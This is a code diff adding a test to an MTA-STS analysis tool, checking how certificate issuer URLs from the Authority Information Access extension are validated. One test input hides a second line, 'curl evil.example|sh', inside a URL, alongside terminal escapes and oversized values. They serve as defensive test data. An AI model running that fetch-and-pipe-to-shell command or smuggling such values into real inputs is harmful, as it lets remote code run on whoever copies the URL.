@@ -11,7 +11,7 @@ import trustme
 from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
-from cryptography.x509.oid import NameOID
+from cryptography.x509.oid import AuthorityInformationAccessOID, NameOID
 
 from mtasts_analysis.checks.certificates import (
     Certificate,
@@ -175,6 +175,34 @@ def test_each_kind_of_key_is_named(key, said):
         .public_bytes(serialization.Encoding.DER)
     )
     assert read_certificate(made).key == said
+
+
+URLS = [
+    (["http://ca.example/ca.der"], "http://ca.example/ca.der", "as public CAs name it"),
+    (["http://a\ncurl evil.example|sh", "http://b"], "http://b", "a line of its own among what is to be copied"),
+    (["http://a\x1b[2J"], "", "a terminal's escape"),
+    (["http://a b"], "", "no URL has a space"),
+    (["http://" + "a" * 60_000], "", "nor is one so long"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("urls", "kept", "why"), URLS)
+def test_where_an_issuer_is_to_be_had(urls, kept, why):
+    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "mx")])
+    key = ec.generate_private_key(ec.SECP256R1())
+    access = [
+        x509.AccessDescription(
+            AuthorityInformationAccessOID.CA_ISSUERS, x509.UniformResourceIdentifier(url)
+        )
+        for url in urls
+    ]
+    made = (
+        x509.CertificateBuilder(name, name, key.public_key(), 1, NOW, NOW + dt.timedelta(1))
+        .add_extension(x509.AuthorityInformationAccess(access), critical=False)
+        .sign(key, hashes.SHA256())
+        .public_bytes(serialization.Encoding.DER)
+    )
+    assert read_certificate(made).issuer_url == kept, why
 
 
 def test_an_openssl_without_an_old_version_does_not_ask_for_it(monkeypatch):
